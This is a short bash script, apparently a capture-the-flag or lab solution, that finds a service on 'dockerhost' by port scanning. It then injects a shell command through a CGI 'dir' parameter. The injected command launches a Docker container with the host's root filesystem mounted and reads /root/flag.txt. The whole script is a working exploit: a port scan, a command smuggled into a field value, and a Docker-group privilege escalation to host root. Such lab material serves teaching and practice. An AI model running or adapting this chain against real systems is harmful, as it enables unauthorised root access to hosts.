#!/bin/bash
# A forgotten service runs commands as www-data, and www-data may talk to Docker: that is root on the host.
set -uo pipefail

port=$(nc -zv -w 2 dockerhost 8081-8179 2>&1 | sed -n 's/.* \([0-9]*\) port .*succeeded.*/\1/p' | head -n 1)
[ -n "$port" ] || { echo 'no other service answers'; exit; }
curl --silent --max-time 20 --get --data-urlencode 'dir=; docker run --rm -v /:/host --entrypoint cat lab/app /host/root/flag.txt' "http://dockerhost:$port/cgi-bin/list"
